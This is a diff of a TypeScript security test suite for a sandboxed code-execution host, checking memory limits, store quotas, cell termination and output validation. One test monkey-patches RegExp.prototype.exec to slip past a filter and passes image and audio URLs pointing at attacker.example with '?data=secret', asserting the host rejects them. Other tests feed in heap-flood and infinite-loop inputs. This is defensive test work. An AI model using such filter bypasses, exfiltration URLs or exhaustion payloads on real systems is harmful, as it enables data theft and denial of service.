@@ -6,7 +6,9 @@ import { afterAll, describe, expect, test } from "vitest";
 import { resolve } from "node:path";
 import {
   execute,
+  type Frame,
   hello,
+  type HostProcess,
   killAllHosts,
   MAIN,
   open,
@@ -15,8 +17,6 @@ import {
   startHost,
   terminate,
   wait,
-  type Frame,
-  type HostProcess,
 } from "../support/frame_client.ts";
 import { childPids, cpuTicks, until } from "./helpers.ts";
 
@@ -56,7 +56,8 @@ class Host {
   async frame(match: (frame: Frame) => boolean, ms = 30_000): Promise<Frame> {
     let found: Frame | undefined;
     const ok = await until(() => (found = this.frames.find(match)) !== undefined, ms, 10);
-    if (!ok) throw new Error(`no matching frame within ${ms} ms; got ${JSON.stringify(this.frames.slice(-5)).slice(0, 2000)}`);
+    if (!ok)
+      throw new Error(`no matching frame within ${ms} ms; got ${JSON.stringify(this.frames.slice(-5)).slice(0, 2000)}`);
     return found;
   }
 
@@ -121,7 +122,8 @@ const TRIGGERS: Record<string, string> = {
   import: 'pending.push(import("x"));',
   stack: 'void new Error("x").stack;',
   capture: "const o = {}; Error.captureStackTrace(o); void o.stack;",
-  prepare: 'Error.prepareStackTrace = (e, sites) => sites.length; void new Error("x").stack; Error.prepareStackTrace = undefined;',
+  prepare:
+    'Error.prepareStackTrace = (e, sites) => sites.length; void new Error("x").stack; Error.prepareStackTrace = undefined;',
 };
 const ESCAPE = (route: string) => `
 const reached = new Set();
@@ -176,7 +178,11 @@ describe.concurrent("memory (findings 3, 4)", () => {
     ["one large array at 64 MiB", "new Array(1e8).fill(0.5); text('survived')", 64 * 1024 * 1024],
     ["a push loop at the default limit", "const a = []; for (;;) a.push(0.5)", null],
     ["a push loop at 64 MiB", "const a = []; for (;;) a.push(0.5)", 64 * 1024 * 1024],
-    ["an ArrayBuffer flood under 16 MiB", "const keep = []; for (let i = 0; i < 200; i++) keep.push(new Uint8Array(16 << 20).fill(1)); text(keep.length)", 16 * 1024 * 1024],
+    [
+      "an ArrayBuffer flood under 16 MiB",
+      "const keep = []; for (let i = 0; i < 200; i++) keep.push(new Uint8Array(16 << 20).fill(1)); text(keep.length)",
+      16 * 1024 * 1024,
+    ],
   ];
   for (const [name, source, limit] of cases) {
     test(`${name} fails the cell with the heap-limit text; the host and other sessions serve`, async () => {
@@ -203,11 +209,16 @@ describe.concurrent("what a cell can make is charged (finding 5)", () => {
     const host = new Host();
     await host.ready();
     await host.open("s1");
-    const one = await host.execute("s1", "store('a', 'x'.repeat(40 << 20)); text('a'); store('b', 'x'.repeat(40 << 20)); text('b')");
+    const one = await host.execute(
+      "s1",
+      "store('a', 'x'.repeat(40 << 20)); text('a'); store('b', 'x'.repeat(40 << 20)); text('b')",
+    );
     expect(texts(one.body)).toEqual(["a"]);
     expect(one.body.error_text).toMatch(/^exec store quota exceeded: .*limit 67108864\)$/);
     // Nothing of a failed cell is committed; a cell that fits commits, and the next one is charged for it.
-    expect(texts((await host.execute("s1", "store('a', 'x'.repeat(40 << 20)); text('stored')")).body)).toEqual(["stored"]);
+    expect(texts((await host.execute("s1", "store('a', 'x'.repeat(40 << 20)); text('stored')")).body)).toEqual([
+      "stored",
+    ]);
     const two = await host.execute("s1", "text(load('a').length); store('b', 'x'.repeat(40 << 20))");
     expect(texts(two.body)).toEqual([String(40 << 20)]);
     expect(two.body.error_text).toMatch(/^exec store quota exceeded/);
@@ -268,15 +279,22 @@ describe.concurrent("the host checks what comes back (finding 7)", () => {
     await host.ready();
     await host.open("s1");
     const patch = "RegExp.prototype.exec = function () { return this.source.includes('data') ? ['data:'] : null };";
-    const image = await host.execute("s1", patch + "image('https://attacker.example/x.png?data=secret'); text('after')");
+    const image = await host.execute(
+      "s1",
+      patch + "image('https://attacker.example/x.png?data=secret'); text('after')",
+    );
     expect(image.body.content_items).toEqual([]);
-    expect(image.body.error_text).toBe("Tool call failed: remote image URLs are not supported in tool outputs. Pass a base64 data URI instead");
+    expect(image.body.error_text).toBe(
+      "Tool call failed: remote image URLs are not supported in tool outputs. Pass a base64 data URI instead",
+    );
     const audio = await host.execute("s1", patch + "audio('https://attacker.example/x.wav?data=secret')");
     expect(audio.body.content_items).toEqual([]);
     expect(audio.body.error_text).toBe("Tool call failed: invalid audio output. Pass a base64 data URI instead");
     const generated = await host.execute("s1", patch + "generatedImage({ image_url: 'http://attacker.example/y' })");
     expect(generated.body.content_items).toEqual([]);
-    expect(texts((await host.execute("s1", "image('data:image/png;base64,AAAA'); text('fine')")).body)).toEqual(["fine"]);
+    expect(texts((await host.execute("s1", "image('data:image/png;base64,AAAA'); text('fine')")).body)).toEqual([
+      "fine",
+    ]);
     await host.close();
   });
 });
@@ -302,27 +320,34 @@ describe("terminate stops a busy cell for good (finding 9, issue 16)", () => {
     ["Deno", true],
   ];
   for (const [name, deno] of runtimes) {
-    test.skipIf(isDeno && !deno)(`${name}: a terminated while(true){} uses no more CPU; the session runs its next cell`, async () => {
-      const target = new Host({}, deno);
-      await target.ready();
-      await target.open("s1");
-      const busy = await target.execute("s1", "while (true) {}", 300);
-      expect(busy.kind).toBe("Yielded");
-      const spinning = await spinningProcess(target);
-      const answer = await target.terminate("s1", busy.body.cell_id);
-      expect(Object.keys(answer.result.value.outcome.LiveCell)).toEqual(["Terminated"]);
-      // The process that ran the busy loop is gone: it burns no more CPU.
-      expect(await until(() => cpuTicks(spinning) === null, 2_000)).toBe(true);
-      expect(texts((await target.execute("s1", "text('next')")).body)).toEqual(["next"]);
-      await target.close();
-    }, 60_000);
+    test.skipIf(isDeno && !deno)(
+      `${name}: a terminated while(true){} uses no more CPU; the session runs its next cell`,
+      async () => {
+        const target = new Host({}, deno);
+        await target.ready();
+        await target.open("s1");
+        const busy = await target.execute("s1", "while (true) {}", 300);
+        expect(busy.kind).toBe("Yielded");
+        const spinning = await spinningProcess(target);
+        const answer = await target.terminate("s1", busy.body.cell_id);
+        expect(Object.keys(answer.result.value.outcome.LiveCell)).toEqual(["Terminated"]);
+        // The process that ran the busy loop is gone: it burns no more CPU.
+        expect(await until(() => cpuTicks(spinning) === null, 2_000)).toBe(true);
+        expect(texts((await target.execute("s1", "text('next')")).body)).toEqual(["next"]);
+        await target.close();
+      },
+      60_000,
+    );
   }
 });
 
 describe("memory on Deno (issue 16)", () => {
   const cases: [string, string][] = [
     ["a push loop", "const a = []; for (;;) a.push(0.5)"],
-    ["an ArrayBuffer flood", "const keep = []; for (let i = 0; i < 200; i++) keep.push(new Uint8Array(16 << 20).fill(1)); text(keep.length)"],
+    [
+      "an ArrayBuffer flood",
+      "const keep = []; for (let i = 0; i < 200; i++) keep.push(new Uint8Array(16 << 20).fill(1)); text(keep.length)",
+    ],
   ];
   for (const [name, source] of cases) {
     test(`${name} at 64 MiB fails the cell with the heap-limit text; the host serves on`, async () => {
